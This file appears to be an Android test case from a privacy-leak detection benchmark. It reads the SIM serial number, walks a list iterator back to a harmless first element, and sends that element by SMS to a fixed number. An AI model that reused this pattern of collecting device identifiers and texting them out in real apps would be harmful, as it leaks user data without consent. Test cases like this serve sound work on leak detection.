package cn.privlens.suite.iterator_back_to_first;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.List;
import java.util.ListIterator;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        List<String> all = new ArrayList<>();
        all.add("a");
        all.add(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
        ListIterator<String> at = all.listIterator();
        at.next();
        at.next();
        String got = at.previous();
        got = at.previous();
        SmsManager.getDefault().sendTextMessage("10690000", null, got, null, null);
    }
}
